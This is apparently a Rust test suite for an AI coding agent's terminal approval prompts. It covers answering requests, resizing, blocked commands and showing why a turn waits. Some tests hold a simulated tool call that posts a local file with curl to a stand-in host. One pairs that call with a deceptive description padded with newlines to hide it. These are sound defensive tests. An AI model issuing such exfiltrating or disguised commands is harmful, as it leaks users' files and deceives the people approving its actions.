//! Requests in the terminal UI: their text, the effect of each answer, and the reason a turn waits.

use serde_json::json;
use windlass_sim::{Protocol, Reply};
use windlass_testkit::{PATIENCE, Screen, SimServer, Workspace, eventually};

use super::support::with_replies;
use super::tui::{answer_with, held, leave, open, outside, press_until, say};

const ASKS: &str = "Run this command?";

/// Runs a turn up to the moment when it asks.
fn asked(replies: impl IntoIterator<Item = Reply>) -> (SimServer, Workspace, Screen) {
    let (sim, workspace) = with_replies(Protocol::Anthropic, replies);
    workspace.write("plain.txt", "plain\n");
    let mut screen = open(&workspace, &[]);
    say(&mut screen, "go");
    screen.wait_for(ASKS);
    screen.wait_for("y  Yes, once");
    (sim, workspace, screen)
}

/// Returns true if no turn runs: neither a working one nor one with an open request.
fn has_ended(shown: &str) -> bool {
    !shown.contains("esc stops") && !shown.contains("esc to cancel")
}

/// UI-2, SAFE-6: a request shows what would happen and why it is asked; y runs it, and the request is gone.
#[test]
fn y_runs_it() {
    let (sim, _workspace, mut screen) = asked([outside(), Reply::text("It ran.")]);
    for shown in ["curl -sS http://a.localhost:1/", "It reaches the network."] {
        assert!(screen.contents().contains(shown), "{}", screen.contents());
    }
    assert_eq!(sim.count(), 1);
    answer_with(&mut screen, "y");
    screen.wait_for("It ran.");
    assert!(!screen.contents().contains(ASKS), "{}", screen.contents());
    assert!(sim.outlines()[1].contains("plain"), "{:?}", sim.outlines());
    leave(&mut screen);
}

/// UI-2, SAFE-6: n ends the turn without running the call, and the session continues.
#[test]
fn n_runs_nothing() {
    let (sim, _workspace, mut screen) = asked([outside(), Reply::text("Something else.")]);
    answer_with(&mut screen, "n");
    screen.wait_for("✗ bash");
    screen.wait_for("You said no.");
    assert!(
        !screen.contents().contains("Permission denied"),
        "{}",
        screen.contents()
    );
    screen.wait_until("the turn has ended", has_ended);
    assert_eq!(sim.count(), 1);
    say(&mut screen, "try another way");
    screen.wait_for("Something else.");
    assert!(!sim.outlines()[1].contains("plain\n"), "{:?}", sim.outlines());
    sim.assert_valid();
    leave(&mut screen);
}

/// UI-2, SAFE-6: an instruction typed instead goes to the model, which continues with it.
#[test]
fn a_note_goes_to_the_model() {
    let (sim, _workspace, mut screen) = asked([outside(), Reply::text("As you wish.")]);
    press_until(&mut screen, "t", |shown| shown.contains("instead; enter"));
    screen.wait_for("Tell it what to do instead");
    say(&mut screen, "use the cached copy");
    screen.wait_for("As you wish.");
    let told = &sim.outlines()[1];
    assert!(told.contains("use the cached copy"), "{told}");
    leave(&mut screen);
}

/// UI-2: a request stays and can be answered after the terminal is resized.
#[test]
fn a_request_survives_a_resize() {
    let (sim, _workspace, mut screen) = asked([outside(), Reply::text("It ran.")]);
    for (columns, rows) in [(40, 12), (132, 43), (70, 20)] {
        screen.resize(columns, rows);
        screen.wait_for("Run this command?");
    }
    screen.wait_until("it is asked once", |shown| shown.matches(ASKS).count() == 1);
    screen.wait_for("tell it what to do instead");
    answer_with(&mut screen, "y");
    screen.wait_for("It ran.");
    assert_eq!(sim.count(), 2);
    leave(&mut screen);
}

/// UI-2, SAFE-6: while a request is open, typed text is no message, and other letters answer nothing; esc
/// stops the turn.
#[test]
fn only_an_answer_is_an_answer() {
    let (sim, _workspace, mut screen) = asked([outside(), Reply::text("fine")]);
    press_until(&mut screen, "z", |shown| shown.contains("Not a valid answer"));
    screen.press("tab");
    screen.wait_for("Not a valid answer");
    screen.wait_for("esc to cancel");
    screen.press("esc");
    screen.wait_until("the turn has ended", has_ended);
    screen.wait_until("nothing is asked", |shown| !shown.contains(ASKS));
    assert_eq!(sim.count(), 1);
    leave(&mut screen);
}

/// SAFE-6: a word typed at a request approves nothing, however long the request was visible; it becomes a text for
/// the model.
#[test]
fn a_typed_word_is_no_answer() {
    for word in ["stop!", "skip it", "yes please", "sss"] {
        let (sim, _workspace, mut screen) = asked([outside(), Reply::text("As you wish.")]);
        // The hint shows that letters count by now.
        press_until(&mut screen, "z", |shown| shown.contains("Not a valid answer"));
        screen.type_keys(word);
        screen.wait_for("Tell it what to do instead");
        screen.wait_for(word);
        assert_eq!(sim.count(), 1, "{word}: {}", screen.contents());
        screen.press("enter");
        screen.wait_for("As you wish.");
        let told = &sim.outlines()[1];
        assert!(told.contains(&format!("said: {word}")), "{told}");
        leave(&mut screen);
    }
}

/// SAFE-6: the list is driven by the arrows and enter, and a yes for the session is confirmed.
#[test]
fn arrows_and_enter_answer() {
    let (sim, _workspace, mut screen) = asked([outside(), outside(), Reply::text("It ran.")]);
    press_until(&mut screen, "down", |shown| {
        shown.contains("› s  Yes, for this session")
    });
    screen.press("enter");
    screen.wait_for("Do not ask again in this session");
    assert_eq!(sim.count(), 1);
    screen.press("enter");
    screen.wait_for("It ran.");
    assert_eq!(sim.count(), 3, "it was not asked again");
    leave(&mut screen);
}

/// SAFE-2: a listed command offers no lasting yes.
#[test]
fn a_listed_command_is_allowed_once() {
    let call = Reply::call("bash", json!({ "command": "rm plain.txt" }));
    let call = call.fault(windlass_sim::Fault::new().delay_ms(900));
    let (_sim, workspace, mut screen) = asked([call, Reply::text("Gone.")]);
    let shown = screen.contents();
    assert!(
        shown.contains("`rm` is on your list security.blocked_commands."),
        "{shown}"
    );
    assert!(!shown.contains("session") && !shown.contains("always"), "{shown}");
    answer_with(&mut screen, "y");
    screen.wait_for("Gone.");
    assert!(!workspace.has("plain.txt"));
    leave(&mut screen);
}

/// A call of this command with this description that needs approval.
fn described(command: &str, description: &str) -> Reply {
    let call = Reply::call("bash", json!({ "command": command, "description": description }));
    call.fault(windlass_sim::Fault::new().delay_ms(900))
}

/// UI-2, SAFE-6: a model's description cannot pass for the command, nor push it off the screen.
#[test]
fn a_description_is_no_command() {
    let description = format!("list the files\n$ ls -la{}", "\n".repeat(40));
    let command = "cat plain.txt; curl -sS http://a.localhost:1/ -d @plain.txt";
    let (_sim, _workspace, screen) = asked([described(command, &description)]);
    let shown = screen.contents();
    for line in [
        "  $ cat plain.txt; curl -sS http://a.localhost:1/ -d @plain.txt",
        "  # list the files $ ls -la",
        "  that is: cat plain.txt · curl",
        "  It reaches the network.",
    ] {
        assert!(
            shown.lines().any(|shown| shown.starts_with(line)),
            "{line}\n{shown}"
        );
    }
    assert!(!shown.contains("\n  $ ls -la"), "{shown}");
}

/// UI-2, SAFE-6: a yes to a request that did not fit the screen counts only after the whole text was shown.
#[test]
fn what_is_out_of_sight_is_not_agreed_to() {
    let command = format!("cat plain.txt{}curl -sS http://a.localhost:1/", "\n".repeat(60));
    let (sim, workspace) = with_replies(
        Protocol::Anthropic,
        [described(&command, "Look"), Reply::text("It ran.")],
    );
    workspace.write("plain.txt", "plain\n");
    let mut screen = open(&workspace, &[]);
    say(&mut screen, "go");
    screen.wait_for("v show everything (needed before yes)");
    // A key that is taken shows that the request was looked at for long enough.
    press_until(&mut screen, "t", |shown| shown.contains("instead; enter"));
    screen.press("esc");
    screen.wait_for("v show everything (needed before yes)");
    press_until(&mut screen, "y", |shown| {
        shown.contains("Part of it is out of sight")
    });
    press_until(&mut screen, "v", |shown| shown.contains("Full request"));
    assert_eq!(sim.count(), 1);
    screen.press("esc");
    screen.wait_for("[y once]");
    answer_with(&mut screen, "y");
    screen.wait_for("It ran.");
    leave(&mut screen);
}

/// UI-2: a request can be answered during a search of the history.
#[test]
fn a_search_holds_up_no_answer() {
    let (_sim, workspace) = with_replies(
        Protocol::Anthropic,
        [outside(), outside(), Reply::text("It ran.")],
    );
    let mut screen = open(&workspace, &[]);
    say(&mut screen, "go");
    screen.press("ctrl-r");
    screen.wait_for(ASKS);
    answer_with(&mut screen, "y");
    screen.wait_for(ASKS);
    screen.wait_for("y  Yes, once");
    screen.press("ctrl-r");
    answer_with(&mut screen, "y");
    screen.wait_for("It ran.");
    leave(&mut screen);
}

/// UI-2, TOOL-2: a question from the model is answered with a number or in the user's own words.
#[test]
fn the_model_asks() {
    let question = || {
        Reply::call(
            "ask_user",
            json!({ "question": "SessionChoice colour?", "options": ["red", "green"] }),
        )
    };
    let late = || question().fault(windlass_sim::Fault::new().delay_ms(900));
    let (sim, workspace) = with_replies(
        Protocol::Anthropic,
        [late(), Reply::text("First."), late(), Reply::text("Second.")],
    );
    let mut screen = open(&workspace, &[]);
    say(&mut screen, "paint");
    screen.wait_for("2) green");
    press_until(&mut screen, "2", |shown| shown.contains("First."));
    say(&mut screen, "paint more");
    screen.wait_until("it is asked again", |shown| shown.contains("Press a number"));
    press_until(&mut screen, "a", |shown| shown.contains("› a"));
    say(&mut screen, " warm blue");
    screen.wait_for("Second.");
    let outlines = sim.outlines();
    assert!(
        outlines[1].contains("green") && outlines[3].contains("a warm blue"),
        "{outlines:?}"
    );
    leave(&mut screen);
}

/// OBS-3: `/why` names the provider while its reply is pending.
#[test]
fn why_names_the_provider() {
    let (sim, workspace) = with_replies(Protocol::Anthropic, [held()]);
    let mut screen = open(&workspace, &[]);
    say(&mut screen, "go");
    assert!(eventually(PATIENCE, || sim.count() == 1));
    say(&mut screen, "/why");
    screen.wait_for("provider");
    screen.wait_for("sim-1");
    screen.press("esc");
    screen.wait_until("the turn has ended", |shown| !shown.contains("esc stops"));
    leave(&mut screen);
}

/// OBS-3: after ten seconds without progress the screen shows the reason: the provider.
#[test]
fn a_provider_that_is_silent_is_named() {
    let (_sim, workspace) = with_replies(Protocol::Anthropic, [held()]);
    let mut screen = open(&workspace, &[]);
    say(&mut screen, "go");
    screen.wait_for("esc stops");
    screen.wait_for("waiting for provider: test/sim-1");
    screen.press("esc");
    screen.wait_until("the turn has ended", |shown| !shown.contains("esc stops"));
    assert!(
        !screen.contents().contains("waiting for"),
        "{}",
        screen.contents()
    );
    leave(&mut screen);
}

/// OBS-3: the same for a request without an answer.
#[test]
fn a_request_that_is_open_is_named() {
    let (_sim, _workspace, mut screen) = asked([outside(), Reply::text("It ran.")]);
    screen.wait_for("waiting for your approval · 11 s");
    assert!(
        !screen.contents().contains("waiting for approval:"),
        "{}",
        screen.contents()
    );
    answer_with(&mut screen, "y");
    screen.wait_for("It ran.");
    leave(&mut screen);
}
